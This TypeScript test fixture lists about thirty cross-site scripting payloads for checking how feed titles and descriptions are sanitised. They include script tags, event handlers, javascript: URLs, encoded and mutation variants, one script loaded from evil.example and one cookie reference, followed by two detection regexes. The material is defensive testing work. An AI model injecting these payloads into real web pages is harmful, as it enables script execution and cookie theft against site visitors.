/** Hostile markup for titles and descriptions, as it would arrive after XML parsing (entities of the XML layer decoded). */
export const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>Harmless text',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>Text after',
  '<img src=x onerror=alert(1)>Image caption',
  '<svg onload=alert(1)>vector</svg>',
  '<svg><script>alert(1)</script></svg>Outside',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<iframe src="javascript:alert(1)"></iframe>Framed',
  '<body onload=alert(1)>Body text</body>',
  '<div style="background:url(javascript:alert(1))">Styled</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;Escaped once',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;Escaped twice',
  '&lt;svg onload=alert(1)&gt;Escaped svg',
  '&lt;img src=x onerror=alert(1)&gt;Escaped image',
  '<![CDATA[<script>alert(1)</script>]]>CDATA trick',
  ']]><script>alert(1)</script>Broken CDATA',
  '<scr<script>ipt>alert(1)</scr</script>ipt>Nested split',
  '<<script>script>alert(1)<</script>/script>Doubled brackets',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>Mutation',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Noscript',
  '<details open ontoggle=alert(1)>Details</details>',
  '<input autofocus onfocus=alert(1)>Input',
  'javascript:alert(document.cookie)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Object</object>',
  '<style>@import "javascript:alert(1)";</style>Style import',
  '<!--<script>alert(1)</script>-->Commented',
  '<p>Plain <b>bold</b> &amp; <i>italic</i> paragraph.</p>',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;Hex entities',
  '<template><script>alert(1)</script></template>Template',
];

// '<' then a tag name (or '/', '!', '?'): markup, not text.
export const TAG_START = /<[a-z!/?]/i;
export const JAVASCRIPT_URL = /javascript\s*:/i;
